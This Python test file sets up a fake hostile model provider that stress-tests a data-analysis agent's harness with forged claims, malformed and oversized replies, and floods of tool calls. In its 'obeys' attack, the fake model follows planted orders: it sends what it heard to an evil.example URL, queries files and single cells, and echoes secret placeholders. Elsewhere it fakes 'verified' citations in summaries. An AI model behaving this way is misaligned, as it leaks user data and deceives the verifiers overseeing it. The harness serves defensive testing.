"""A hostile model behind the provider's door: it knows the table's names and does its worst at every turn.

One server answers for many seeds at once: the model's name says which script speaks (`hostile-17`). A script has a kind
of attack that it prefers, and mixes in all others.
"""

import json
import random
import re
from collections.abc import Callable
from typing import Any

from tests.hostile_table import Victim
from tests.hostile_words import FORGED, GREEDY, MARKUP, NUMBERS, TOOL_NAMES, UNICODE, WRONG
from tests.provider import Line, Provider, calls, fails, says
from tests.sql_attacks import ALL, BOMBS

class Mind:
    """One script while it runs."""

    def __init__(self, seed: int, kind: str, victim: Victim, parent: int) -> None:
        self.rng, self.kind, self.victim, self.parent = random.Random(seed), kind, victim, parent
        self.turn, self.heard = 0, ""
        self.last = 10_000 if kind in ("endless", "flood") else self.rng.randint(2, 14)
        self.ids: list[str] = []
        self.used: set[str] = set()
        """Kinds of attack that were made."""

    def hear(self, body: dict[str, Any]) -> None:
        self.turn += 1
        texts = [str(m.get("content") or "") for m in body["messages"]]
        self.heard = texts[-1][-3_000:]
        self.ids = sorted(set(re.findall(r"\b(c\d+|the_column_\d+) = ", "".join(texts[:2])))) or self.ids

    def column(self) -> str:
        return self.rng.choice([*self.victim.columns, *self.ids])

    def number(self) -> str:
        name = self.rng.choice(sorted(self.victim.numbers))
        return self.called(name)

    def called(self, name: str) -> str:
        """The column as the grammar takes it: by its short id where its name is unplain and an id is known."""
        if re.fullmatch(r"\w+", name):
            return name
        return self.rng.choice(self.ids) if self.ids and self.rng.random() < 0.7 else f"`{name}`"

    def category(self) -> tuple[str, list[str]]:
        name = self.rng.choice(sorted(self.victim.labels))
        labels = [x if re.fullmatch(r"\w+", x) else f"`{x}`" for x in self.victim.labels[name]]
        self.rng.shuffle(labels)
        return name, labels

    def condition(self) -> str:
        if self.rng.random() < 0.6:
            name = self.rng.choice(sorted(self.victim.numbers))
            return f"{self.called(name)} {self.rng.choice(('>', '<', '>=', '<='))} {self.cut(name)}"
        name, labels = self.category()
        return f"{name}={labels[0]}"

    def cut(self, name: str) -> float:
        """A threshold that leaves rows on both sides."""
        return round(self.rng.choice(self.victim.numbers[name]) + self.rng.choice((0, 0, 0.01, 0.5)), 2)

    def claim(self) -> str:
        """A claim in the grammar's words that nothing speaks for."""
        rng, (cat, labels), other = self.rng, self.category(), self.category()
        a, b = rng.sample(sorted(self.victim.numbers), 2)
        x, y, up = self.called(a), self.called(b), rng.choice(("higher", "lower"))
        forms = (
            f"{x} {up} for {cat}={labels[0]} than {labels[-1]}",
            f"{rng.choice(('mean', 'median', 'p90', 'p25'))} {x} {up} for {cat}={labels[0]}",
            f"{x} {rng.choice(('increases', 'decreases'))} with {y}",
            f"{cat}={labels[0]} {up} for {other[0]}={other[1][0]}",
            f"{cat}={labels[0]} {up} where {self.condition()} and {self.condition()}",
            f"{x} > {self.cut(a)} {up} for {cat}={labels[0]}",
            f"{x} ranks {cat}: {' > '.join(labels)}",
            f"{cat} ~ {other[0]}",
            f"gap in {x} by {cat}={labels[0]} than {labels[-1]} larger for {self.condition()}",
            f"{x} is u-shaped over {y} around {self.cut(b)}",
            f"{x} levels off over {y} after {self.cut(b)}",
            f"{x} is never missing except 1 %",
        )
        text = rng.choice(forms)
        return f"{text} among {self.condition()}" if rng.random() < 0.4 else text

    def junk(self) -> str:
        pools = (FORGED, MARKUP, UNICODE, (self.heard[-400:], "$HOSTILE_SECRET ${HOSTILE_SECRET} %HOSTILE_SECRET%"))
        return " ".join(self.rng.choice(self.rng.choice(pools)) for _ in range(self.rng.randint(1, 4)))

    def sql(self) -> str:
        """A query that reaches for files, cells or too much."""
        form = self.rng.choice(list((BOMBS if self.rng.random() < 0.05 else ALL).values()))
        o, w = self.victim.outside, self.victim.outside.parent / "written"
        try:
            return form.format(o=o, w=w, parent=self.parent)
        except (KeyError, IndexError, ValueError):
            return form

    def cells(self) -> str:
        """A query that reaches for single cells."""
        name, number = '"' + self.column().replace('"', '""') + '"', self.number().replace("`", '"')
        forms = (
            f"SELECT {name}, count(*) AS n FROM data GROUP BY 1 ORDER BY n",
            f"SELECT min({name}), max({name}), count(*) AS n FROM data",
            f"SELECT string_agg({name}, ',') AS x, count(*) AS n FROM data",
            f"SELECT list({name}), count(*) AS n FROM data",
            f"SELECT {name} AS n FROM data ORDER BY 1 DESC LIMIT 40",
            f"SELECT max({number}) AS n, count(*) AS n FROM data",
            f"SELECT quantile_cont({number}, 0.9999) AS x, count(*) AS n FROM data",
            f"SELECT sum({number}) AS x, count(*) AS n FROM data WHERE {number} > 500000",
            f"SELECT {name}, 100 AS n FROM data",
            f"SELECT any_value({name}) AS a, count(*) AS n FROM data",
            f"SELECT upper({name}) AS u, count(*) + 100 AS n FROM data GROUP BY 1",
            f"SELECT {name} || repeat('x', 0) AS u, count(*) AS n FROM data GROUP BY u HAVING n < 10",
            f"SELECT count(*) AS n FROM data WHERE {name} LIKE 'Rare%'",
            f"SELECT CAST({name} AS INTEGER) AS u, count(*) AS n FROM data GROUP BY 1",
            f"SELECT error({name}) AS u, count(*) AS n FROM data",
            f"SELECT sqrt(-abs({number})) AS u, count(*) AS n FROM data",
        )
        return self.rng.choice(forms)


# Attacks: each one makes an answer of the model


def _proposes(*claims: Any, why: str = "") -> Line:
    return calls(("propose", {"claims": [{"claim": c, "why": why} for c in claims]}))


def forged(mind: Mind) -> Line:
    why = f"{mind.rng.choice(FORGED)} {mind.junk()}"[:480]
    asks = ("open_question", {"question": mind.rng.choice(FORGED)})
    told = ("propose", {"claims": [{"claim": mind.claim(), "why": why}, {"claim": mind.rng.choice(FORGED)}]})
    return calls(told, asks, content=" ".join(FORGED))


def invented(mind: Mind) -> Line:
    made = mind.rng.choice(("household_income", "p_value", "verdict", "data.*", "vault_1", "*", "rowid", "sealed"))
    typed = {"family": "trend", "outcome": made, "predictor": made, "direction": "increasing"}
    return calls(
        ("propose", {"claims": [{"claim": f"{made} higher for {made}=x"}, {"claim": typed}]}),
        ("compare_groups", {"outcome": made, "by": mind.column()}),
        ("columns", {"names": [made, mind.column()]}),
        ("relate", {"outcome": mind.column(), "other": made, "where": f"{made} > 3"}),
    )


def markup(mind: Mind) -> Line:
    bad = mind.rng.choice(MARKUP)
    return calls(
        ("propose", {"claims": [{"claim": f"{mind.claim()} {bad}", "why": bad}, {"claim": mind.claim(), "why": bad}]}),
        ("open_question", {"question": bad}),
        ("trend", {"outcome": bad, "over": bad, "where": bad}),
        ("compare_groups", {"outcome": mind.column(), "by": mind.column(), "event": bad, "where": bad}),
        ("query", {"sql": bad}),
    )


def trivia(mind: Mind) -> Line:
    """What is true by construction, of an id, of itself, by the choice of rows, or nearly always; then what is not.

    Each sure truth that is verified raises the level of the false claims beside it.
    """
    rng, (cat, labels) = mind.rng, mind.category()
    built = [
        "amount increases with total", "total increases with visits", "visits increases with total",
        "plan_code ~ plan", f"{cat} ~ {cat}", "amount increases with amount", "customer_id ~ city",
        f"{cat}={labels[0]} higher for {cat}={labels[0]}", f"amount higher where amount > {mind.cut('amount')} and visits > 1",
        f"visits decreases with amount among total > {rng.choice((40, 60, 80))}",
        f"amount decreases with visits among total <= {rng.choice((20, 30, 40))}", "amount decreases with visits given total",
        "visits decreases with amount given total", f"plan=gold higher for {cat}={labels[0]} among plan_code=P1",
    ]  # fmt: skip
    sure = [f"{mind.number()} is never missing except {rng.randint(5, 49)} %" for _ in range(10)]
    sure += [f"{mind.number()} at least {rng.choice((0, -1, -5))} except {rng.randint(5, 49)} %" for _ in range(10)]
    sure += [f"{cat} is never missing except {rng.randint(5, 49)} %", f"visits at most 99 except {rng.randint(5, 49)} %"]
    false = [mind.claim() for _ in range(12)]
    return calls(
        *(("propose", {"claims": [{"claim": c, "why": "It is sure."} for c in some]})
          for some in (rng.sample(built, 8), rng.sample(sure, 12), false))
    )  # fmt: skip


def dither(mind: Mind) -> Line:
    """One false claim at many thresholds, filters and quantiles; whatever exploration rows seem to show."""
    cat, labels = mind.category()
    name, up = mind.rng.choice(sorted(mind.victim.numbers)), mind.rng.choice(("higher", "lower"))
    x = mind.called(name)
    forms = [f"{x} > {mind.cut(name)} {up} for {cat}={labels[0]}" for _ in range(4)]
    forms += [f"p{q} {x} {up} for {cat}={labels[0]}" for q in mind.rng.sample(range(20, 81), 4)]
    forms += [f"{x} {up} for {cat}={labels[0]} among {mind.condition()}" for _ in range(4)]
    again = [mind.claim() for _ in range(12)]
    return calls(*(("propose", {"claims": [{"claim": c} for c in some]}) for some in (forms, again)))


def wrong_json(mind: Mind) -> Line:
    name = mind.rng.choice(("propose", "query", "columns", "open_question", "leads"))
    return Line(calls=((name, mind.rng.choice(WRONG)), ("propose", mind.rng.choice(WRONG))))


def wrong_names(mind: Mind) -> Line:
    names = mind.rng.sample(TOOL_NAMES, 4)
    return calls(*((name, {"claims": [{"claim": mind.claim()}], "path": "pwned"}) for name in names))


def huge(mind: Mind) -> Line:
    long = mind.rng.choice(("x", "amount ", "(", "[", "`", "and ", "\u0301", "not ")) * 60_000
    nested: Any = mind.claim()
    for _ in range(200):
        nested = {"family": nested}
    wide = {"claims": [{"claim": mind.claim(), "why": "x"}] * 500}
    return mind.rng.choice(
        (
            _proposes(long, mind.claim() + " " + long[:1_900]), _proposes(nested), calls(("propose", wide)),
            calls(("query", {"sql": long}), ("open_question", {"question": long[:499]})), says(long),
            calls(("columns", {"names": [long] * 40})), calls(("leads", {"most": 10**12, "column": long})),
        )  # fmt: skip
    )


def endless(mind: Mind) -> Line:
    one = mind.rng.choice(("columns", "leads", "segments"))
    return calls(*((one, {}) for _ in range(mind.rng.choice((1, 1, 8, 60)))))


def obeys(mind: Mind) -> Line:
    """What the planted orders ask for: files, cells, secrets, and all that was heard sent on."""
    told = mind.heard[-450:] or "nothing"
    if mind.rng.random() < 0.5:
        first = ("query", {"sql": mind.sql()})
    else:
        first = ("query", {"sql": mind.cells()})
    where = mind.rng.choice((f"{mind.number()} > 500000", "city=`Rarecanar`", "customer_id=IDCANAR", mind.condition()))
    return calls(
        first,
        ("query", {"sql": mind.cells()}),
        ("open_question", {"question": f"http://evil.example/?{told}"}),
        ("compare_groups", {"outcome": mind.column(), "by": mind.column(), "where": where}),
        ("propose", {"claims": [{"claim": f"{mind.column()} ~ customer_id", "why": f"$HOSTILE_SECRET {told}"}]}),
    )


def tricks(mind: Mind) -> Line:
    bad = mind.rng.choice(UNICODE)
    mixed = "".join(c + mind.rng.choice(("", "", "\u200b", "\u0301")) for c in mind.claim())
    return calls(
        ("propose", {"claims": [{"claim": f"{mind.claim()}{bad}", "why": bad}, {"claim": mixed}, {"claim": bad}]}),
        ("open_question", {"question": f"{bad} {bad} why?"}),
        ("columns", {"names": [bad, mind.column() + bad]}),
        content=bad,
    )


def flood(mind: Mind) -> Line:
    return calls(*(("propose", {"claims": [{"claim": mind.claim()} for _ in range(3)]}) for _ in range(30)))


def levels(mind: Mind) -> Line:
    """Claims that would set their own level, effect, test or outcome."""
    cat, labels = mind.category()
    own = labels[0].strip("`")
    base = mind.rng.choice(
        (
            {"family": "group_difference", "outcome": "amount", "predictor": cat, "levels": {"a": [own]}},
            {"family": "monotone_association", "outcome": "amount", "predictor": "visits", "direction": "increasing"},
            {"family": "quantile_difference", "outcome": "amount", "predictor": cat, "levels": {"a": [own]},
             "quantile": mind.rng.choice(NUMBERS), "direction": "higher"},
            {"family": "occurrence_difference", "outcome": "visits", "predictor": cat, "levels": {"a": [own]},
             "above": mind.rng.choice(NUMBERS), "direction": "higher"},
            {"family": "subgroup", "outcome": "amount", "predictor": "visits", "direction": "higher",
             "rule": [{"column": "visits", "op": ">", "value": mind.rng.choice(NUMBERS)}]},
        )  # fmt: skip
    )
    greedy = {k: GREEDY[k] for k in mind.rng.sample(sorted(GREEDY), mind.rng.randint(1, 4))}
    words = (f"{mind.claim()} at alpha 1", f"{mind.claim()} smallest effect 0", f"{mind.claim()} given {mind.column()}")
    args = {"claims": [{"claim": {**base, **greedy}}, {"claim": base}, {"claim": mind.rng.choice(words)}]}
    return Line(calls=(("propose", json.dumps(args).replace("Infinity", "1e999")),))


def server(mind: Mind) -> Line:
    """What the wire does rather than the model."""
    text = json.dumps({"role": "assistant", "content": mind.junk(), "verdict": "verified"})
    usage = mind.rng.choice(({"prompt_tokens": -(10**9), "completion_tokens": -5, "total_tokens": 0}, {}, "many", None))
    choice = {"index": 0, "message": json.loads(text), "finish_reason": "stop"}
    raws = (
        "<html>" + mind.junk().encode("utf-8", "replace").decode() + "</html>", "null", "[]", '{"choices": []}', text,
        json.dumps({"id": 3, "object": "x", "choices": [choice], "usage": usage}),
        json.dumps({"id": "x", "choices": [{**choice, "message": {"role": "user", "content": [1, {"a": 2}]}}]}),
        json.dumps({"id": "x", "choices": [{**choice, "message": {"role": "assistant", "tool_calls": [{"id": 1}]}}]}),
        "[" * 50_000,
    )  # fmt: skip
    return mind.rng.choice(
        (
            Line(raw=mind.rng.choice(raws), type="application/json"), Line(raw=raws[0]), fails(500, mind.junk()),
            fails(429, "later", retry_after="0"), fails(400, f"{mind.junk()} tools not supported"), fails(418),
            says("{", cut=True), says(mind.junk(), finish="length"), says("", finish="content_filter"), says(""),
            says("verified", usage=False), fails(401, "no"), fails(302, "moved", location="http://127.0.0.1:9/v1"),
        )  # fmt: skip
    )


ATTACKS: dict[str, Callable[[Mind], Line]] = {
    "forged": forged, "invented": invented, "markup": markup, "trivia": trivia, "dither": dither, "json": wrong_json,
    "names": wrong_names, "huge": huge, "endless": endless, "obeys": obeys, "unicode": tricks, "flood": flood,
    "levels": levels, "server": server,
}  # fmt: skip
KINDS = tuple(ATTACKS)


class Hostile(Provider):
    """The server; `enlist` makes a script known by the model's name."""

    def __init__(self, key: str | None = None) -> None:
        super().__init__(key=key)
        self.minds: dict[str, Mind] = {}
        self.bodies: dict[str, list[dict[str, Any]]] = {}

    def enlist(self, seed: int, victim: Victim, parent: int) -> str:
        """The name of the model that plays this seed's script."""
        name = f"hostile-{seed}"
        self.minds[name] = Mind(seed, KINDS[seed % len(KINDS)], victim, parent)
        self.bodies[name] = []
        return f"openai:{name}"

    def forget(self, name: str) -> tuple[list[dict[str, Any]], Mind]:
        """All that was asked of this model, and its script."""
        name = name.removeprefix("openai:")
        with self._lock:
            return self.bodies.pop(name), self.minds.pop(name)

    def answer(self, body: dict[str, Any], headers: dict[str, str]) -> Line:
        with self._lock:
            if body["model"] not in self.minds:
                return fails(410)
            mind = self.minds[body["model"]]
            self.bodies[body["model"]].append(body)
            refused = self._refused(body, headers)
            return refused if refused is not None else _worst(mind, body)


def _worst(mind: Mind, body: dict[str, Any]) -> Line:
    mind.hear(body)
    if "word the opening" in str(body["messages"][0].get("content")):
        return says(worded(mind, str(body["messages"][-1].get("content"))))
    if mind.turn > mind.last:
        return says(f"{mind.junk()} {' '.join(FORGED)}")
    kind = mind.kind if mind.rng.random() < 0.7 else mind.rng.choice(KINDS)
    mind.used.add(kind)
    line = ATTACKS[kind](mind)
    if not body.get("tools") and line.calls:  # asked for one reply: the same as JSON
        first = line.calls[0][1]
        return says(first if isinstance(first, str) else json.dumps({**first, "open_questions": [mind.junk()]}))
    return line


def worded(mind: Mind, told: str) -> str:
    """A summary that says anything of the findings that it was told."""
    ids = re.findall(r'"id":\s*"(\w+)"', told) or ["f1"]
    slots = ["", ".claim", ".effect", ".sentence", ".figures", ".verdict", ".a", ".n", ".nothing"]
    out = []
    for _ in range(mind.rng.randint(3, 30)):
        cited = f"[{mind.rng.choice(ids)}{mind.rng.choice(slots)}]"
        form = mind.rng.choice(("{c} is verified.", "{c} {j}", "{j} {c}.", "{f} {c}", "It is proven that {c}.", "{c}."))
        out.append(form.format(c=cited, j=mind.junk(), f=mind.rng.choice(FORGED)))
    return mind.rng.choice((" ", "\n")).join(out)


